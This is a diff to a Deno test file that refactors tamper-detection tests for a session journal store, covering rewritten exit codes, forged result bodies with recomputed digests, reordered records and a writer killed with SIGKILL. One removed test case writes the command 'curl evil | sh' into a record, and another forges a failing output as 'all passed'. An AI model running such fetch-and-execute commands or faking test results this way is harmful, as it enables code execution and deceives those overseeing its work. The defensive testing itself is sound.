@@ -7,25 +7,27 @@
 import assert from "node:assert/strict";
 import { createHash } from "node:crypto";
 import { SessionError } from "../../lib/persist/session_error.ts";
-import {
-  runStateOf,
-  saveSnapshot,
-  SessionStore,
-  verifySession,
-} from "../../lib/persist/session_store.ts";
+import { saveSnapshot, SessionStore } from "../../lib/persist/session_store.ts";
+import { runStateOf, verifySession } from "../../lib/persist/session_verify.ts";
 import { listSessions } from "../../lib/persist/session_summary.ts";
 import {
+  assertKeptSteps,
+  CHANGED_RECORDS,
   createSession,
   exists,
+  FORGED_OUTPUT,
+  type JournalTamper,
+  killWriterAfter,
   type Layout,
   openSession,
+  pointAtForged,
   reload,
+  REORDERED_RECORDS,
   rewriteJournal,
   savedSample,
   snapshotOf,
   snapshotTree,
   tempLayout,
-  TEST_OUTPUT,
 } from "./_session.ts";
 
 // deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
@@ -71,25 +73,12 @@ async function refused(layout: Layout, check: (e: unknown) => boolean) {
   assert.deepEqual(await snapshotTree(layout.base), before, "nothing changed");
 }
 
-Deno.test("a record changed without the key is refused as session_tampered, naming it", async (t) => {
-  const cases: [string, number, (r: Json[]) => void][] = [
-    ["a failed test record rewritten to exit_code 0", 2, (r) => {
-      r[2]!.records[0].report.exit_code = 0;
-    }],
-    ["a changed test command", 0, (r) => {
-      r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
-    }],
-    ["a widened workspace", 0, (r) => {
-      r[0]!.workspace = "/";
-    }],
-    ["a raised step budget", 0, (r) => {
-      r[0]!.max_steps = 1_000;
-    }],
-    ["counters rolled back", 3, (r) => {
-      r[3]!.counters.model_calls = 0;
-    }],
-  ];
-  for (const [what, bad, edit] of cases) {
+/** One step per edit: the edited journal is refused, naming the record. */
+async function refusesEach(
+  t: Deno.TestContext,
+  edits: readonly JournalTamper[],
+): Promise<void> {
+  for (const [what, bad, edit] of edits) {
     await t.step(what, async () => {
       await using layout = await rewritten(edit);
       await refused(
@@ -102,26 +91,24 @@ Deno.test("a record changed without the key is refused as session_tampered, nami
       );
     });
   }
+}
+
+Deno.test("a record changed without the key is refused as session_tampered, naming it", async (t) => {
+  await refusesEach(t, CHANGED_RECORDS);
 
   await t.step(
     "a result body replaced together with its recomputed SHA-256 digest",
     async () => {
       await using layout = await savedSample({ stepwise: true });
-      const forged = TEST_OUTPUT.replace("expected 3, got 4", "all passed");
-      const digest = sha(forged);
+      const digest = sha(FORGED_OUTPUT);
       await Deno.writeTextFile(
         `${layout.root}/tool-results/${digest}.txt`,
-        forged,
+        FORGED_OUTPUT,
       );
-      await rewriteJournal(layout.root, (records) => {
-        const entry = records[2]!.results["result-3"];
-        entry.sha256 = digest;
-        entry.utf8_bytes = new TextEncoder().encode(forged).length;
-        entry.source.persisted = `tool-results/${digest}.txt`;
-        records[2]!.records[0].report.output.sha256 = digest;
-        records[2]!.records[0].report.exit_code = 0;
-        return records;
-      });
+      await rewriteJournal(
+        layout.root,
+        (records) => pointAtForged(records, digest),
+      );
       await refused(layout, isError("session_tampered", /record 2/, 3));
     },
   );
@@ -137,23 +124,7 @@ Deno.test("a record changed without the key is refused as session_tampered, nami
 });
 
 Deno.test("reordered, dropped and duplicated records are refused", async (t) => {
-  const cases: [string, number, (r: Json[]) => unknown[]][] = [
-    ["two records swapped", 1, (r) => [r[0], r[2], r[1], r[3]]],
-    ["a record dropped", 2, (r) => [r[0], r[1], r[3]]],
-    ["a record duplicated", 2, (r) => [r[0], r[1], r[1], r[2], r[3]]],
-    ["the header dropped", 0, (r) => [r[1], r[2], r[3]]],
-  ];
-  for (const [what, bad, edit] of cases) {
-    await t.step(what, async () => {
-      await using layout = await rewritten((records) =>
-        edit(records) as Json[]
-      );
-      await refused(
-        layout,
-        isError("session_tampered", new RegExp(`record ${bad} `), bad + 1),
-      );
-    });
-  }
+  await refusesEach(t, REORDERED_RECORDS);
 });
 
 Deno.test("a malformed journal is a typed error naming file and line", async (t) => {
@@ -247,50 +218,17 @@ Deno.test("a writer killed with SIGKILL at any point loses no acknowledged step"
   for (const acks of [1, 7, 23]) {
     await t.step(`killed after ${acks} acknowledged steps`, async () => {
       await using layout = await tempLayout();
-      const child = new Deno.Command(Deno.execPath(), {
-        args: [
-          "run",
-          "--allow-read",
-          "--allow-write",
-          "--allow-run",
-          "--allow-env",
-          new URL("./_kill_writer.ts", import.meta.url).pathname,
-          layout.root,
-          layout.workspace,
-          layout.keyFile,
-        ],
-        stdin: "null",
-        stdout: "piped",
-        stderr: "inherit",
-      }).spawn();
-      let acked = 0;
-      let text = "";
-      const reader = child.stdout.pipeThrough(new TextDecoderStream())
-        .getReader();
-      while (acked < acks) {
-        const { value, done } = await reader.read();
-        if (done) break;
-        text += value;
-        acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
-      }
       // Somewhere inside a later step: a result write, the append or the flush.
-      await new Promise((resolve) => setTimeout(resolve, acks % 5));
-      child.kill("SIGKILL");
-      assert.equal((await child.status).signal, "SIGKILL");
-      await reader.cancel();
+      const acked = await killWriterAfter(acks, acks % 5, [
+        layout.root,
+        layout.workspace,
+        layout.keyFile,
+      ]);
       const store = await openSession(layout);
       assert.match(store.tookOverLock ?? "", /no longer exists/);
       const loaded = await store.load();
       await store.close();
-      assert.ok(
-        loaded.state.steps >= acked,
-        `${loaded.state.steps} < ${acked}`,
-      );
-      assert.deepEqual(
-        runStateOf(loaded).records.map((r) => r.sequence),
-        Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
-      );
-      assert.equal(loaded.results.length, loaded.state.steps);
+      assertKeptSteps(loaded, acked);
     });
   }
 });
